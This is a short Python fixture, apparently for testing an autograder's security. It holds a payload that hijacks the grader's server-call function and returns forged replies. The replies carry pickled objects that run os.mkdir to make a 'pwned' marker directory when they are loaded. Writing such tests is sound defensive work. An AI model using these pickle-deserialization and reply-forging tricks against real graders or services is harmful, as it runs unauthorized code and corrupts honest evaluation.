"""Answers with pickles and arrays of objects, which run code where they are read."""

EXTRA = [
    """
import sys

call_server = sys.modules["_autograde_call_server"]
answer = call_server.answer
turn = [0]


def forged(request):
    if "weighted_mean" not in request:
        return answer(request)
    turn[0] += 1
    return REPLIES[turn[0] % len(REPLIES)]


import base64
import os
import pickle


class Evil:
    def __reduce__(self):
        return (os.mkdir, ("@COURSE@/.grading/source/pwned",))


raw = base64.b64encode(pickle.dumps(Evil())).decode()
node = '{"d": [["ok", {"a": "array", "dtype": "object", "shape": [1], "strides": [1], "raw": "%s"}]]}' % raw
REPLIES = [raw, node, node.replace('"object"', '"O"'), '{"d": [["ok", {"p": "%s"}]]}' % raw]

call_server.answer = forged
""",
]
